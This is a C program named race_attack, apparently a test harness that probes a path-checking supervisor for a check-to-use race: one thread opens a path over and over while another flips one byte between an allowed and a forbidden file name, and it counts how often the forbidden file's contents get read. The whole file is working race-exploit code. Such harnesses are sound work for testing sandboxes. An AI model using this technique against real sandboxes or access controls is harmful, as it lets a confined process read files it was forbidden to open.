/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * race_attack - open a file that a supervisor forbids, by changing the path
 * between its check and the kernel's use
 *
 * race_attack ALLOWED FORBIDDEN TRIES
 *
 * The two names differ in one byte.  One thread opens the path again and
 * again; another writes that byte back and forth.  A try is won where what was
 * opened holds what is in FORBIDDEN, which begins with an 'F'; ALLOWED begins
 * with an 'A'.  Prints "tries=N opened=N refused=N wins=N".
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

struct path {
	char *text;
	size_t at;		/* the byte that differs */
	char allowed, forbidden;
	atomic_bool done;
};

static void *flip(void *data)
{
	struct path *path = data;
	volatile char *byte = path->text + path->at;

	while (!path->done) {
		*byte = path->forbidden;
		*byte = path->allowed;
	}
	return NULL;
}

static bool find_difference(struct path *path, const char *allowed, const char *forbidden)
{
	size_t n = 0;

	if (strlen(allowed) != strlen(forbidden))
		return false;
	for (size_t i = 0; allowed[i]; i++) {
		if (allowed[i] != forbidden[i]) {
			path->at = i;
			n++;
		}
	}
	path->allowed = allowed[path->at];
	path->forbidden = forbidden[path->at];
	path->text = strdup(allowed);
	return n == 1 && path->text;
}

int main(int argc, char **argv)
{
	struct path path = { 0 };
	long tries, opened = 0, refused = 0, wins = 0;
	pthread_t flipper;

	if (argc != 4 || !find_difference(&path, argv[1], argv[2])) {
		fprintf(stderr, "usage: race_attack ALLOWED FORBIDDEN TRIES\n"
				"The two names differ in one byte.\n");
		return 2;
	}
	tries = strtol(argv[3], NULL, 10);
	errno = pthread_create(&flipper, NULL, flip, &path);
	if (errno) {
		perror("race_attack: pthread_create");
		return 2;
	}
	for (long i = 0; i < tries; i++) {
		int fd = open(path.text, O_RDONLY | O_CLOEXEC);
		char first = 0;

		if (fd < 0) {
			refused++;
			continue;
		}
		opened++;
		if (read(fd, &first, 1) == 1 && first == 'F')
			wins++;
		close(fd);
	}
	path.done = true;
	pthread_join(flipper, NULL);
	free(path.text);
	printf("tries=%ld opened=%ld refused=%ld wins=%ld\n", tries, opened, refused, wins);
	return 0;
}
